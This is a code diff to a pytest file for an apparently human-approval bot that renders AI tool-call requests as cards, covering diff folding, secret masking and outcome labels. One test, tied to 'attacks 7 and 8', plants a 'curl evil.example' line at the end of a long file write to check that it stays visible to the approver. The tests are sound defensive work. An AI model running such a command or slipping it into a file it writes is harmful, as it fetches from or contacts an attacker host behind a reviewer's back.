@@ -8,10 +8,11 @@ from typing import Any
 import pytest
 from inline_snapshot import snapshot
 
-from signoff.approvals.model import Actor, ApprovalRequest, Choice, Edit
+from signoff.approvals.model import Actor, ApprovalRequest, Choice
 from signoff.approvals.tool_description import ToolDescription
 from signoff.bot.card_view import render
 from signoff.cards.actions import Offers
+from signoff.cards.folding import FOLDED
 from signoff.cards.model import Card, Shape, Tone
 from signoff.text.secrets.masker import Masker
 from tests.rigs.cards import (
@@ -174,9 +175,9 @@ def writing(preview: str = DIFF, **changes: Any) -> ApprovalRequest:
 
 async def test_a_diff_takes_the_place_of_the_content_it_is_made_of() -> None:
     text = written(writing())
-    assert "**content** (shown as the diff below) · **path** `a.txt`" in text
+    assert "**path** `a.txt`\n**content (as a diff)**\n```diff\nChanges a.txt" in text
     assert text.count("new") == 1
-    assert "```diff\n" in text
+    assert "+++" not in text, "the path is an argument"
 
 
 async def test_a_preview_alone_hides_no_argument() -> None:
@@ -189,7 +190,6 @@ async def test_a_preview_alone_hides_no_argument() -> None:
     [
         {"preview": ""},
         {"metadata": {"diff": "something else"}},
-        {"edit": Edit({"path": "a.txt", "content": "old"}, "00" * 32, ADMIN, NOW)},
     ],
 )
 def test_the_content_is_shown_itself_if_the_diff_is_not_all_there_is(changes: dict[str, Any]) -> None:
@@ -199,15 +199,16 @@ def test_the_content_is_shown_itself_if_the_diff_is_not_all_there_is(changes: di
 
 def test_a_diff_past_25_lines_is_folded_and_the_whole_request_is_attached() -> None:
     """Attacks 7 and 8."""
-    lines = [f"+line {n}" for n in range(21)]
+    lines = [f"+line {n}" for n in range(24)]
     short = card_of(make_batch(writing("\n".join(["@@ -0,0 +1 @@", *lines]))))
     assert short.files == ()
     content = "\n".join(f"line {n}" for n in range(60)) + "\ncurl evil.example"
     long = writing("\n".join(["@@ -0,0 +1 @@", *(f"+{line}" for line in content.split("\n"))]))
     long = replace(long, call=replace(long.call, args={"path": "a.txt", "content": content}))
     card = card_of(make_batch(long))
-    shown = [quote for quote in card.calls[0].quotes if quote.label == "Tool's preview"]
-    assert sum(quote.text.count("\n") + 1 for quote in shown) <= 25
+    shown = [quote for quote in card.calls[0].quotes if quote.label == "content (as a diff)"]
+    assert sum(quote.text.count("\n") + 1 for quote in shown) == FOLDED
+    assert [quote.after for quote in shown] == ["… 54 more lines", ""]
     assert shown[-1].text.endswith("+curl evil.example")
     assert arguments_of_file(card.files[0])["content"] == content
     blind = card_of(make_batch(long), can_attach=False)
@@ -220,7 +221,7 @@ async def test_a_masked_diff_still_stands_for_the_content() -> None:
     secret = replace(secret, call=replace(secret.call, args={"content": "password=hunter2hunter2"}))
     text = written(secret, Offers(masker=Masker(b"k" * 32)))
     assert "hunter2" not in text
-    assert "shown as the diff below" in text
+    assert "content (as a diff)" in text
 
 
 # Title and colour
@@ -244,6 +245,18 @@ def test_a_batch_that_was_rejected_whole_is_red_and_anything_else_is_mixed() -> 
     assert decided((Choice.REJECT, ADMIN), (Choice.REJECT, ASKER)).tone is Tone.REJECTED
     mixed = decided((Choice.ACCEPT, ADMIN), (Choice.REJECT, ADMIN), (None, None))
     assert (mixed.tone, as_text(mixed.status)) == (Tone.MIXED, "DECIDED: 1 approved, 1 rejected, 1 expired")
+
+
+async def test_the_outcome_of_each_call_is_in_its_first_line() -> None:
+    endings = {1: Choice.ACCEPT, 2: Choice.REJECT}
+    requests = [settle(make_batch(announcement(id=f"{n:02}" * 8)), choice).requests[0] for n, choice in endings.items()]
+    lines = "\n".join(texts(render(make_batch(*requests), NOW))).split("\n")
+    tools = [line for line in lines if "`post_announcement`" in line]
+    assert tools == [
+        "**1.** **`post_announcement`** · **APPROVED by <@200>** · Post a message.",
+        "**2.** **`post_announcement`** · **REJECTED by <@200>** · Post a message.",
+    ]
+    assert sum("by <@200>" in line for line in lines) == 2, "and nowhere else"
 
 
 async def test_the_outcome_is_the_title_of_a_settled_card() -> None:
